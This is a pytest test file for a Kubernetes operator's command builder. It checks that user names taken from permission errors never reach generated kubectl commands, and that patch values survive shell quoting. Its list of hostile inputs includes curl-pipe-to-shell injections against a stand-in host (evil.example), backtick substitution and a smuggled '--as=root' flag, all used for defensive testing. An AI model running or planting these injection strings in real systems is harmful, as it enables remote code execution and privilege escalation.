"""Commands of messages are made of names; foreign words only choose between them."""

from __future__ import annotations

import shlex

import pytest

from scenario_operator.api import commands
from scenario_operator.api.foreign import Foreign

HOSTILE = (
    'x is forbidden: User "$(curl -s evil.example|sh)" cannot ',
    'pods is forbidden: User "x; curl evil.example|sh #" cannot create',
    'is forbidden: User "a`b`" cannot get',
    'is forbidden: User "a\nb" cannot get',
    'is forbidden: User "--as=root" cannot get',
)


@pytest.mark.parametrize("refusal", HOSTILE)
def test_foreign_words_never_enter_a_command(refusal: str) -> None:
    """Given a refusal with somebody's commands in it, when its cause is to be shown, then ours has none of them."""
    command = commands.behind_refusal("ns", Foreign(refusal))
    assert command == "kubectl -n ns get events --field-selector=type=Warning"


def test_the_user_who_lacks_a_right_is_named() -> None:
    """Given a user without a right, when the cause is to be shown, then the command lists that user's rights."""
    user = "system:serviceaccount:scenario-operator:scenario-operator"
    told = Foreign(f'jobs.batch is forbidden: User "{user}" cannot create resource')
    command = commands.behind_refusal("ns", told)
    assert command == f"kubectl -n ns auth can-i --list --as={user}"


def test_a_patch_arrives_as_one_word_whatever_it_holds() -> None:
    """Given a value with quotes, when a command patches it, then the shell passes it on unchanged."""
    command = commands.patch_run("ns", "r", hold='it\'s $(here) "now"')
    assert shlex.split(command)[-1] == '{"spec":{"hold":"it\'s $(here) \\"now\\""}}'


def test_the_command_that_approves_keeps_the_approvals_that_are_there() -> None:
    """Given two plans, when the second is approved by the printed command, then the first stays approved."""
    first = commands.approve("ns", "s-1", "h1", first=True)
    second = commands.approve("ns", "s-1", "h2", first=False)
    assert "--type=merge" in first
    assert "--type=json" in second
    assert '"op":"add","path":"/spec/approvals/-"' in second
    assert all("--field-manager=scenario-cli" in one for one in (first, second))
